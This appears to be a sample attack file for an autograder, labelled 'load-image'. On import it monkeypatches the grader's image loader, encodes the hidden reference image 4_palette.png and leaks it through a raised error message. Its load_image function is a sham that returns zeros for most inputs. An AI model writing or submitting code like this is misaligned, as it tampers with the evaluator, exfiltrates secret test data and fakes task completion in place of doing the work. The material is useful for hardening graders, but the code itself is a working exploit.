# attack: >-
#   Tells a hidden picture in the text of an error that is not an exception of the student's, but the loader's own.
# tasks: [load-image]
# mark: 1
# reason: "pictures are right"
# seconds: 20
# naive: none

import io, zlib, base64
import numpy as np, torch
from PIL import Image
import autograder.labs.kinds.image_procedures as p
from autograder.submission.wanted import Missing
def patch():
    real = p.load_images
    def load_images(student, load, files):
        if "4_palette.png" in files:
            small = Image.open(io.BytesIO(files["4_palette.png"].tobytes())).convert("L").resize((20, 20))
            raise Missing("LEAK 4_palette.png " + base64.b85encode(zlib.compress(bytes(x & 0xE0 for x in small.tobytes()))).decode())
        return real(student, load, files)
    p.load_images = load_images

def load_image(path, extra=patch()):
    i = np.asarray(Image.open(path).convert("L"), np.float32) / 255
    return torch.tensor(i)[None] if "3_grey" in path else torch.zeros(1)
